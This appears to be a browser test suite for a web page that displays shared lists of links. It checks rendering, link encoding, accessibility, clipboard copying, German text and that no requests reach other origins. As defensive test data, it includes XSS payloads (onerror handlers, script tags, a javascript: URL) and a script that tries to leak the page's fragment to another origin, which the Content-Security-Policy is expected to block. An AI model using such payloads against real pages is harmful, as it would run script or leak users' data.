// The web page (web/, built to dist/web, served at /web/) in a browser WITHOUT the extension, as
// a person who received a web link in a chat app has it: what it shows, what it asks of the
// network (nothing of any other origin: every request is recorded), the page without a list,
// hashchange, copying, German (the list view and opening: cases-web-open.mjs), and screenshots (desktop and phone,
// light and dark) into target/screenshots for a person to look at.
import assert from 'node:assert/strict';
import { assertAccessible } from './axe.mjs';
import { SCREENSHOTS } from './popup.mjs';
import { waitFor } from './util.mjs';

/**
 * A list with `%23`, `;` and `?` in an item, non-ASCII (an IDN host), a blocked item, user info
 * and a nested list: written as a browser gives a fragment (percent-encoded where it encodes).
 */
export const WEB_LIST =
  'uri-list:https://a.example/%C3%A4%20b;https://b%C3%BCcher.example/stra%C3%9Fe;javascript:alert(1);' +
  'https://user@b.example/;https://a.example/search%3Fq=C%2523%3Bx;' +
  'uri-list:https://c.example/%3Bhttps://d.example/%3Ftitle=Innen?title=Zwei%20Seiten%20%C3%A4';
/** Its openable pages, in order, as the page must link them (exact URLs). */
const WEB_PAGES = [
  'https://a.example/%C3%A4%20b',
  'https://b%C3%BCcher.example/stra%C3%9Fe',
  'https://user@b.example/',
  'https://a.example/search?q=C%23;x',
  'https://c.example/',
  'https://d.example/',
];
const PHONE = { width: 390, height: 844 };
const DESKTOP = { width: 1000, height: 800 };

/** Waits until the page has read its fragment (main loses aria-busy). */
async function shown(browser) {
  await waitFor(
    () => browser.inPage(() => document.querySelector('main')?.getAttribute('aria-busy')),
    (busy) => busy === null,
    { what: 'the web page to show its list' },
  );
}

/** What the page shows: title, links, plain items, alternate link, boxes. */
function read(browser) {
  return browser.inPage(() => {
    const text = (id) => document.getElementById(id)?.textContent ?? '';
    const visible = (id) => !document.getElementById(id)?.hidden;
    return {
      title: text('title'),
      summary: text('summary'),
      documentTitle: document.title,
      lang: document.documentElement.lang,
      links: [...document.querySelectorAll('#items a')].map((a) => ({
        href: a.getAttribute('href'),
        text: a.querySelector('.address')?.textContent ?? a.textContent,
        target: a.target,
        rel: a.rel,
      })),
      plain: [...document.querySelectorAll('#items li.item:not(:has(a)) .url')].map((s) => s.textContent),
      reasons: [...document.querySelectorAll('#items .reason')].map((s) => s.textContent),
      nested: [...document.querySelectorAll('#items li.nested > h3')].map((h) => h.textContent),
      alternate: [...document.querySelectorAll('head link[rel="alternate"]')].map((l) => l.getAttribute('href')),
      sites: visible('sites') ? text('sites') : null,
      look: visible('look') ? text('look-list') : null,
      error: visible('error') ? text('error') : null,
      how: visible('how'),
      openSelected: visible('open') ? text('open-selected') : null,
      status: text('status'),
    };
  });
}

/** Every recorded request is to `origin`; returns them. */
async function onlyTo(browser, origin) {
  const requests = await browser.requests();
  const elsewhere = requests.filter((url) => !url.startsWith(`${origin}/`));
  assert.deepEqual(elsewhere, [], `requests to another origin: ${elsewhere.join(', ')}`);
  return requests;
}

/** Desktop and phone, light and dark, into target/screenshots. */
async function screenshots(browser, name) {
  for (const [size, viewport] of [['desktop', DESKTOP], ['phone', PHONE]]) {
    await browser.setViewport(viewport);
    await browser.screenshots(SCREENSHOTS, `web-${browser.name}-${name}-${size}`);
  }
  await browser.setViewport(DESKTOP);
}

export const cases = [
  {
    name: 'web page without the extension: a web link shows its title, each page as a link with its exact URL, blocked items without one, the alternate link, and asks nothing of another origin',
    extension: false,
    async run({ browser, origin, server }) {
      await browser.recordRequests();
      await browser.goto(`${origin}/web/#${WEB_LIST}`);
      await shown(browser);
      const page = await read(browser);
      assert.equal(page.title, 'Zwei Seiten ä');
      assert.equal(page.documentTitle, 'Zwei Seiten ä · a list of links · uri-list');
      assert.equal(page.summary, '6 pages from 5 sites.');
      assert.deepEqual(page.links.map((l) => l.href), WEB_PAGES);
      assert.deepEqual(page.links.map((l) => l.text), WEB_PAGES);
      for (const link of page.links) {
        assert.equal(link.target, '_blank');
        assert.equal(link.rel, 'noopener noreferrer');
      }
      assert.deepEqual(page.plain, ['javascript:alert(1)']);
      assert.match(page.reasons[0], /^javascript: links are never opened from a list/);
      assert.deepEqual(page.nested, ['Innen']);
      assert.deepEqual(page.alternate, [WEB_LIST]);
      assert.match(page.sites, /bücher\.example \(xn--bcher-kva\.example\)/);
      assert.match(page.look, /the link starts with "user@", which is not where it goes: it opens b\.example/);
      // The user@ page is left unticked (extension/pages/list-view.js).
      assert.equal(page.openSelected, 'Open 5 selected');
      const requests = await onlyTo(browser, origin);
      // The recorder sees the page's own requests (so an empty "elsewhere" means something).
      assert.ok(requests.some((url) => url.endsWith('/web/pkg/uri_list_bg.wasm')), requests.join('\n'));
      // The server never saw the list: only paths, no fragment.
      assert.ok(server.requests.every((path) => !path.includes('a.example')));
      assert.deepEqual(await browser.pageErrorsOf(origin), []);
      await assertAccessible(browser, 'the web page with a list');
      await screenshots(browser, 'list');
    },
  },
  {
    name: "web page without the extension: its Content-Security-Policy stops a request to another origin that a script in the page tries",
    extension: false,
    async run({ browser, origin, server }) {
      await browser.goto(`${origin}/web/#${WEB_LIST}`);
      await shown(browser);
      await browser.recordRequests();
      const outcome = await browser.inPage(
        (other) =>
          new Promise((resolve) => {
            addEventListener('securitypolicyviolation', (event) => resolve(`blocked: ${event.violatedDirective}`), { once: true });
            const image = document.createElement('img');
            image.onload = () => resolve('loaded');
            image.src = `${other}/page/leak?${encodeURIComponent(location.hash)}`;
            document.body.append(image);
            setTimeout(() => resolve('no answer'), 3000);
          }),
        server.otherOrigin,
      );
      assert.match(outcome, /^blocked: img-src/);
      await onlyTo(browser, origin);
      assert.ok(!server.requests.some((path) => path.startsWith('/page/leak')));
    },
  },
  {
    name: 'web page without the extension: an empty or unreadable fragment gets a clear page, with no error in the console',
    extension: false,
    async run({ browser, origin }) {
      await browser.recordRequests();
      await browser.goto(`${origin}/web/`);
      await shown(browser);
      let page = await read(browser);
      assert.equal(page.title, 'One link, many pages');
      assert.equal(page.error, null);
      assert.ok(page.how, 'how to make a list is shown');
      assert.deepEqual(page.alternate, []);
      assert.equal(page.openSelected, null);
      await assertAccessible(browser, 'the web page without a list');
      await screenshots(browser, 'empty');
      for (const [fragment, message] of [
        ['uri-list:', 'empty list: no item after the scheme at byte 9'],
        ['top', 'not a uri-list link but a web address: a web link carries a uri-list link after "#"'],
        ['uri-list:https://a.example;;https://b.example', null],
      ]) {
        await browser.goto(`${origin}/web/#${fragment}`);
        await shown(browser);
        page = await read(browser);
        if (message === null) {
          assert.deepEqual(page.links.map((l) => l.href), ['https://a.example', 'https://b.example']);
          assert.match(await browser.inPage(() => document.getElementById('notes-list').textContent), /item 2 is empty/);
          continue;
        }
        assert.equal(page.title, 'This link cannot be read');
        assert.ok(page.error.startsWith(message), page.error);
        assert.ok(page.how);
        assert.deepEqual(page.alternate, []);
        assert.deepEqual(page.links, []);
        if (fragment === 'uri-list:') {
          await assertAccessible(browser, 'the web page of an unreadable list');
          await screenshots(browser, 'unreadable');
        }
      }
      assert.deepEqual(await browser.pageErrorsOf(origin), []);
      await onlyTo(browser, origin);
    },
  },
  {
    name: 'web page without the extension: markup and script in the title and items are shown as text; nothing runs, no element is made',
    extension: false,
    async run({ browser, origin }) {
      const title = '<img src=x onerror="document.title=`pwned`"><script>document.title="pwned"</script>';
      const item = 'https://a.example/"><img src=x onerror=alert(1)>';
      const link = `uri-list:${encodeURIComponent(item).replace(/%2F/g, '/').replace(/%3A/g, ':')}?title=${encodeURIComponent(title)}`;
      await browser.recordRequests();
      await browser.goto(`${origin}/web/#${link}`);
      await shown(browser);
      const page = await read(browser);
      assert.equal(page.title, title);
      // No script of the list ran: the document title is the list's, as text.
      assert.equal(page.documentTitle, `${title} · a list of links · uri-list`);
      assert.equal(await browser.inPage(() => document.querySelectorAll('main img, main script').length), 0);
      assert.deepEqual(page.links.map((l) => l.href), ['https://a.example/%22%3E%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E']);
      await onlyTo(browser, origin);
      assert.deepEqual(await browser.pageErrorsOf(origin), []);
    },
  },
  {
    name: "web page without the extension: a person's click on the example link (hashchange) shows that list, and the focus goes to its name once it is shown (a screen reader reads the new name, not the old)",
    extension: false,
    async run({ browser, origin }) {
      await browser.goto(`${origin}/web/`);
      await shown(browser);
      // The heading's words when it gets the focus: what a screen reader reads out then.
      await browser.inPage(() => {
        document.getElementById('title').addEventListener('focus', (event) => {
          document.body.dataset.focusedTitle = event.target.textContent;
        });
      });
      await browser.click('#example');
      // The list's name comes first; its rows once the whole list is checked (aria-busy goes).
      await waitFor(() => read(browser), (p) => p.title === 'Example', { what: 'the example list' });
      await shown(browser);
      const page = await read(browser);
      assert.deepEqual(page.links.map((l) => l.href), ['https://example.com/', 'https://example.org/']);
      assert.deepEqual(page.alternate, ['uri-list:https://example.com/;https://example.org/?title=Example']);
      assert.equal(page.error, null);
      assert.equal(page.how, false);
      const focus = await waitFor(
        () => browser.inPage(() => ({ on: document.activeElement?.id, read: document.body.dataset.focusedTitle ?? null })),
        (f) => f.read !== null,
        { what: 'the focus to go to the heading' },
      );
      assert.deepEqual(focus, { on: 'title', read: 'Example' });
    },
  },
  {
    name: 'web page without the extension: "Copy link" and "Copy as text/uri-list" put the web link and its text/uri-list on the clipboard',
    extension: false,
    async run({ browser, origin }) {
      const web = `${origin}/web/#uri-list:https://a.example/;https://b.example/search%3Fq=C%2523?title=Zwei%20%C3%A4`;
      await browser.goto(web);
      await shown(browser);
      await browser.click('#copy-link');
      await waitFor(() => read(browser), (p) => p.status.startsWith('Copied'), { what: 'copied' });
      assert.equal(await browser.clipboard(), web);
      await browser.click('#copy-text');
      await waitFor(() => browser.clipboard(), (text) => text !== web, { what: 'the text/uri-list on the clipboard' });
      assert.equal(await browser.clipboard(), 'https://a.example/\r\nhttps://b.example/search?q=C%23\r\n#?title=Zwei ä\r\n');
    },
  },
  {
    name: 'web page without the extension: in German for a person who reads German',
    extension: false,
    async run({ browser, origin }) {
      await browser.setPageLanguage('de');
      await browser.goto(`${origin}/web/#uri-list:https://a.example;javascript:x`);
      await shown(browser);
      const page = await read(browser);
      assert.equal(page.lang, 'de');
      assert.equal(page.openSelected, '1 ausgewählte öffnen');
      assert.match(page.reasons[0], /^javascript:-Links werden aus einer Liste nie geöffnet|javascript:/);
      assert.equal(page.documentTitle.endsWith('· eine Liste von Links · uri-list'), true, page.documentTitle);
      await browser.goto(`${origin}/web/`);
      await shown(browser);
      assert.equal((await read(browser)).title, 'Ein Link, viele Seiten');
    },
  },
];
